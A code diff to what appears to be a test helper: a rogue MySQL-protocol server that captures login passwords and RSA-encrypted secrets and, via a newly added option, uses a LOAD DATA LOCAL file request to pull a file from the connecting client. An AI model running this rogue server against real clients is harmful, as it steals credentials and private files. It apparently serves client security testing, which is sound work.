@@ -2,12 +2,13 @@
 """A server that is after passwords: it speaks the protocol up to the login, asks for an
 authentication plugin of its choice, and writes down what it is told.
 
-rogue.py FOLDER PLUGIN [--greet] [--tls]
+rogue.py FOLDER PLUGIN [--greet] [--tls] [--let-in]
 
 --greet: it names the plugin in its greeting, too. --tls: it offers TLS, with FOLDER/cert.pem
-and key.pem. FOLDER/rsa.pem: the public key that it hands out as its own. FOLDER/port says when
+and key.pem. --let-in: it takes any answer for the password, and asks each command for the file
+FOLDER/private, as LOAD DATA LOCAL would. FOLDER/rsa.pem: the public key that it hands out as its own. FOLDER/port says when
 and where it listens. FOLDER/heard gets a line for each packet: "tls VERSION CIPHER", "login BYTES",
-"answer BYTES", "by-key BYTES" (encrypted by the key that it handed out, so that it can read it).
+"answer BYTES", "command BYTES", "file BYTES", "by-key BYTES" (encrypted by the key that it handed out, so that it can read it).
 """
 import os
 import socket
@@ -80,6 +81,13 @@ def key():
         return file.read()
 
 
+def read_files(peer):
+    peer.send(b"\0\0\0\2\0\0\0")
+    heard("command", peer.receive())
+    peer.send(b"\xfb" + folder.encode() + b"/private")
+    heard("file", peer.receive())
+
+
 def talk(peer):
     peer.send(greeting())
     login = peer.receive()
@@ -98,6 +106,8 @@ def talk(peer):
     if plugin == "dialog":
         peer.send(b"\x05And your password? ")
         heard("answer", peer.receive())
+    if "--let-in" in sys.argv:
+        read_files(peer)
     peer.send(b"\xff" + struct.pack("<H", 1045) + b"#28000Thank you\x1b[31m")
 
 
